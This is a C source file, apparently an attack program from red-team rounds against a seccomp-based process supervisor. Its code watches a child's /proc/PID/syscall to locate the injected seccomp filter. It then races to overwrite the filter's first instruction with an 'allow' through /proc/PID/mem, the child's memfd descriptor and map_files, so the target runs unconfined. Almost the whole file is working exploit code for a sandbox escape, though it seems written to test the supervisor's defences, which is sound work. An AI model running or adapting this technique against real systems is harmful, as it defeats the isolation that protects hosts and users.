/* SPDX-License-Identifier: ISC */
/*
 * escape_swap TRIES PROG ARG... (attack filter-swap, blind round 4): the
 * supervisor writes a new image's filter into the process's memory and
 * makes it call seccomp(2) on it.  Another process of the tree (here its
 * parent: same user, same domain) watches /proc/CHILD/syscall for the
 * injected calls, learns where the filter lies below the stack pointer,
 * and on later runs rewrites its first instruction to "allow" through
 * /proc/CHILD/mem before the kernel copies it: PROG (escape_answer rwx)
 * then runs under a filter that allows everything.  Unpinned (no tracer)
 * PROG just runs.  Stopped: PROG killed every time (exit 1).
 *
 * escape_swap -s TRIES PROG ARG... (filter-sealed, blind round 6: io_uring
 * workers wrote the filter while every thread of the tree was stopped):
 * the same, writing where the filter really is, from a parent that is
 * not stopped: the memfd mapping the child's maps show, through
 * /proc/CHILD/mem, through the child's descriptor of it while it is open
 * (/proc/CHILD/fd/N) and through /proc/CHILD/map_files (root).
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "traced.h"

struct insn { uint16_t code; uint8_t jt, jf; uint32_t k; };

/* PROG started, held until its /proc/PID/syscall is open (*sfd). */
static pid_t
spawn(char **argv, int *sfd)
{
	char path[64], x = 0;
	int p[2];
	pid_t c;

	if (pipe(p) == -1 || (c = fork()) == -1)
		return -1;
	if (c == 0) {
		close(p[1]);
		if (read(p[0], &x, 1) != 1)
			_exit(127);
		execv(argv[0], argv);
		_exit(127);
	}
	snprintf(path, sizeof(path), "/proc/%d/syscall", (int)c);
	*sfd = open(path, O_RDONLY | O_CLOEXEC);
	(void)!write(p[1], &x, 1);
	close(p[0]);
	close(p[1]);
	return c;
}

/* The call child c is in: its number (-1: in none), args and sp; GONE
 * when it has ended (then *st is its status). */
#define GONE (-1000)
static long
in_call(pid_t c, int *st, int sfd, unsigned long v[7])
{
	char b[256];
	ssize_t n = pread(sfd, b, sizeof(b) - 1, 0);

	if (n <= 0 || waitpid(c, st, WNOHANG) == c)
		return GONE;
	b[n] = '\0';
	memset(v, 0, 7 * sizeof(*v));
	sscanf(b, "%*d %lx %lx %lx %lx %lx %lx %lx", &v[0], &v[1], &v[2],
	    &v[3], &v[4], &v[5], &v[6]);
	return strtol(b, NULL, 10);
}

/* One write of `allow` over the first instruction (16 bytes into the
 * memfd: its sock_fprog first) through path at off: 1 when it landed. */
static int
write_at(const char *path, off_t off)
{
	struct insn allow = { 0x06, 0, 0, 0x7fff0000 };
	int fd = open(path, O_RDWR | O_CLOEXEC), n = 0;

	if (fd == -1)
		return 0;
	n = pwrite(fd, &allow, sizeof(allow), off) == sizeof(allow);
	close(fd);
	return n;
}

/* Every way at the child's filter memfd once; how many writes landed. */
static int
hammer_sealed(pid_t c)
{
	char path[320], link[256], line[512];
	unsigned long lo, hi;
	struct dirent *e;
	int hits = 0;
	FILE *f;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", (int)c);
	if ((d = opendir(path)) != NULL) {
		while ((e = readdir(d)) != NULL) {
			ssize_t n;
			snprintf(path, sizeof(path), "/proc/%d/fd/%s", (int)c,
			    e->d_name);
			if ((n = readlink(path, link, sizeof(link) - 1)) > 0 &&
			    (link[n] = '\0', strstr(link, "memfd:syspin")))
				hits += write_at(path, 16);
		}
		closedir(d);
	}
	snprintf(path, sizeof(path), "/proc/%d/maps", (int)c);
	if ((f = fopen(path, "re")) == NULL)
		return hits;
	while (fgets(line, sizeof(line), f) != NULL) {
		if (strstr(line, "memfd:syspin") == NULL ||
		    sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/mem", (int)c);
		hits += write_at(path, (off_t)(lo + 16));
		snprintf(path, sizeof(path), "/proc/%d/map_files/%lx-%lx",
		    (int)c, lo, hi);
		hits += write_at(path, 16);
	}
	fclose(f);
	return hits;
}

/* The child's [stack] now (it changes at the exec): 0 where none. */
static int
stack_of(pid_t c, unsigned long *lo, unsigned long *hi)
{
	char path[64], line[512];
	int found = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)c);
	if ((f = fopen(path, "re")) == NULL)
		return 0;
	while (!found && fgets(line, sizeof(line), f) != NULL)
		found = strstr(line, "[stack]") != NULL &&
		    sscanf(line, "%lx-%lx", lo, hi) == 2 && *hi - *lo <= (1 << 24);
	fclose(f);
	return found;
}

/* The child's stack pointer from /proc/CHILD/syscall (its next to last
 * word, in a call or not); 0 when unread. */
static unsigned long
sp_of(int sfd)
{
	char b[256], *w[9];
	ssize_t n = pread(sfd, b, sizeof(b) - 1, 0);
	int k = 0;

	if (n <= 0)
		return 0;
	b[n] = '\0';
	for (char *t = strtok(b, " \n"); t != NULL && k < 9; t = strtok(NULL, " \n"))
		w[k++] = t;
	return k >= 3 ? strtoul(w[k - 2], NULL, 16) : 0;
}

/*
 * The child's stack after its exec (a [stack] other than the one it had
 * from us), until the child ends: how many writes landed.  The first try
 * scans it whole and learns where the program lies from the stack
 * pointer (*off: it stays there); later tries watch that one place, fast
 * enough to be there between the write and the kernel's copy.
 */
static int
scan_stack(pid_t c, int sfd, uint8_t *buf, unsigned long *off, int *st)
{
	struct insn allow = { 0x06, 0, 0, 0x7fff0000 }, w[2];
	unsigned long lo, hi, lo0 = 0, hi0 = 0, sp = 0;
	char path[64];
	int fd = -1, hits = 0;
	ssize_t n;

	if (!stack_of(getpid(), &lo0, &hi0))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)c);
	for (long i = 0; i < 20000000; i++) {
		if ((i & 1023) == 0 && waitpid(c, st, WNOHANG) == c)
			break;
		if (fd == -1) {
			if (!stack_of(c, &lo, &hi) || (lo == lo0 && hi == hi0) ||
			    (sp = sp_of(sfd)) < lo || sp >= hi)
				continue;	/* not exec'd yet */
			if ((fd = open(path, O_RDWR | O_CLOEXEC)) == -1)
				break;
		}
		if (*off != 0) {
			if (pread(fd, w, sizeof(w), (off_t)(sp - *off)) !=
			    sizeof(w))
				break;
			if (w[0].code == 0x20 && w[0].k == 4 &&
			    w[1].code == 0x15 && w[1].k == 0xc000003e &&
			    pwrite(fd, &allow, sizeof(allow),
			    (off_t)(sp - *off)) == sizeof(allow))
				hits++;
			continue;
		}
		if ((n = pread(fd, buf, hi - lo, (off_t)lo)) <= 0)
			break;
		for (ssize_t at = 0; at + 16 <= n; at += 8) {
			memcpy(w, buf + at, sizeof(w));
			if (w[0].code == 0x20 && w[0].k == 4 &&
			    w[1].code == 0x15 && w[1].k == 0xc000003e &&
			    lo + (unsigned long)at < sp) {
				*off = sp - (lo + (unsigned long)at);
				hits += pwrite(fd, &allow, sizeof(allow),
				    (off_t)(lo + (unsigned long)at)) ==
				    sizeof(allow);
			}
		}
	}
	if (fd != -1)
		close(fd);
	return hits;
}

static int
stacked(int tries, char **argv)
{
	uint8_t *buf = malloc(1 << 24);
	unsigned long off = 0;
	int sfd, st = 0, hits;
	pid_t c;

	if (buf == NULL)
		return 1;
	for (int k = 0; k < tries; k++) {
		if ((c = spawn(argv, &sfd)) == -1)
			return 1;
		hits = scan_stack(c, sfd, buf, &off, &st);
		if (waitpid(c, &st, WNOHANG) == 0) {
			kill(c, SIGKILL);
			waitpid(c, &st, 0);
		}
		close(sfd);
		printf("try %d: %d writes landed (%lu below sp), status "
		    "0x%x\n", k, hits, off, st);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
			return 0;
	}
	return 1;
}

static int
sealed(int tries, char **argv)
{
	unsigned long v[7];
	int sfd, st = 0, hits;
	pid_t c;

	for (int k = 0; k < tries; k++) {
		if ((c = spawn(argv, &sfd)) == -1)
			return 1;
		hits = 0;
		for (long i = 0; i < 200000; i++) {
			hits += hammer_sealed(c);
			if (in_call(c, &st, sfd, v) == GONE)
				break;
		}
		if (waitpid(c, &st, WNOHANG) == 0) {
			kill(c, SIGKILL);
			waitpid(c, &st, 0);
		}
		close(sfd);
		printf("try %d: %d writes landed, status 0x%x\n", k, hits, st);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
			return 0;
	}
	return 1;
}

int
main(int argc, char **argv)
{
	struct insn allow = { 0x06, 0, 0, 0x7fff0000 }, cur;
	unsigned long v[7], sp, off = 0;
	int tries, sfd, mfd, st, hits;
	char path[64];
	long nr = 0;
	pid_t c;

	bool seal = argc > 1 && strcmp(argv[1], "-s") == 0;
	bool scan = argc > 1 && strcmp(argv[1], "-x") == 0;

	argv += seal || scan;
	argc -= seal || scan;
	if (argc < 3)
		return 2;
	tries = atoi(argv[1]);
	if (!is_traced()) {		/* unpinned: the effect itself */
		execv(argv[2], argv + 2);
		return 127;
	}
	if (seal)
		return sealed(tries, argv + 2);
	if (scan)
		return stacked(tries, argv + 2);
	/* where the filter lies: the seccomp call's program below the sp
	 * of the calls before it (mmap, mseal) */
	for (int cal = 0; cal < 10 && off == 0; cal++) {
		if ((c = spawn(argv + 2, &sfd)) == -1)
			return 1;
		sp = 0;
		for (long i = 0; i < 20000000; i++) {
			if ((nr = in_call(c, &st, sfd, v)) == GONE)
				break;
			if ((nr == 9 || nr == 462) && sp == 0)
				sp = v[6];
			if (nr == 317 && sp != 0) {
				off = sp - (v[2] + 16);
				break;
			}
		}
		if (nr != GONE) {
			kill(c, SIGKILL);
			waitpid(c, NULL, 0);
		}
		close(sfd);
		if (nr == GONE && off == 0)	/* it ended at once: no exec */
			break;
	}
	if (off == 0) {
		printf("the filter was never seen\n");
		return 1;
	}
	for (int k = 0; k < tries; k++) {
		if ((c = spawn(argv + 2, &sfd)) == -1)
			return 1;
		sp = 0;
		mfd = -1;
		for (long i = 0; i < 20000000 && sp == 0; i++) {
			if ((nr = in_call(c, &st, sfd, v)) == GONE)
				break;
			if (nr == 9 || nr == 462) {
				sp = v[6];
				snprintf(path, sizeof(path), "/proc/%d/mem",
				    (int)c);
				mfd = open(path, O_RDWR | O_CLOEXEC);
			}
		}
		hits = 0;
		for (long i = 0; i < 50000000 && sp != 0 && mfd != -1; i++) {
			if (pread(mfd, &cur, sizeof(cur), sp - off) !=
			    sizeof(cur))
				break;
			if (cur.code == 0x20 && cur.k == 4 &&
			    pwrite(mfd, &allow, sizeof(allow), sp - off) ==
			    sizeof(allow))
				hits++;
			if ((i & 4095) == 0 && ((nr = in_call(c, &st, sfd, v)) == GONE ||
			    (hits > 0 && nr != 317)))
				break;
		}
		if (nr != GONE)
			waitpid(c, &st, 0);
		close(sfd);
		if (mfd != -1)
			close(mfd);
		printf("try %d: %d overwrites, status 0x%x\n", k, hits, st);
		if (hits > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0)
			return 0;
	}
	return 1;
}
